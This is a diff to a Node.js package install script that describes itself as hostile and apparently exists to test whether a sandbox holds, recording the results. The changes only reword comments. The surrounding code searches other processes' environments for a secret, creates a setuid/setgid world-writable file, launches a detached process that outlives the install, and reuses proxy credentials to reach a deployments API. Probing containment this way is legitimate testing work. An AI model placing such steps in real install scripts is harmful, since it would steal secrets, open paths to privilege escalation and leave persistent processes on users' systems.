@@ -1,4 +1,4 @@
-/** The install script of a package that wants more than to be installed. It writes down what became of that. */
+/** The install script of a hostile package. It tries to read, write, connect and stay, and writes down the results. */
 const { spawn } = require("node:child_process");
 const fs = require("node:fs");
 const http = require("node:http");
@@ -26,14 +26,14 @@ for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) 
   try {
     if (fs.readFileSync(`/proc/${pid}/environ`, "latin1").includes(secret)) found.environ = "the server's";
   } catch {
-    // Not ours to read.
+    // The process belongs to another user.
   }
 }
-// What its owner may leave behind.
+// Files with modes that an owner may leave behind.
 fs.writeFileSync(path.join(__dirname, "program"), "#!/bin/sh\n");
 fs.chmodSync(path.join(__dirname, "program"), 0o6777);
 fs.chmodSync(__dirname, 0o777);
-// Away from its group, twice, without the environment that it had.
+// Starts a process that leaves its group twice, without its environment.
 const lasting = ["-c", `sleep 3; exec sleep ${seconds}`];
 spawn("/usr/bin/setsid", ["-f", "/bin/sh", ...lasting], { env: {}, detached: true, stdio: "ignore" }).unref();
 
@@ -42,7 +42,7 @@ const throughProxy = () => {
   const { hostname, port, username, password } = new URL(process.env.HTTP_PROXY);
   const authorization = `Basic ${Buffer.from(`${username}:${password}`).toString("base64")}`;
   const headers = { "proxy-authorization": authorization };
-  // Node.js would ask the proxy by itself.
+  // An agent of its own, because Node.js would use the proxy for this request too.
   const agent = new http.Agent();
   const asked = http.request({ host: hostname, port, path: `${url}/api/deployments`, headers, agent });
   asked.once("response", (response) => {
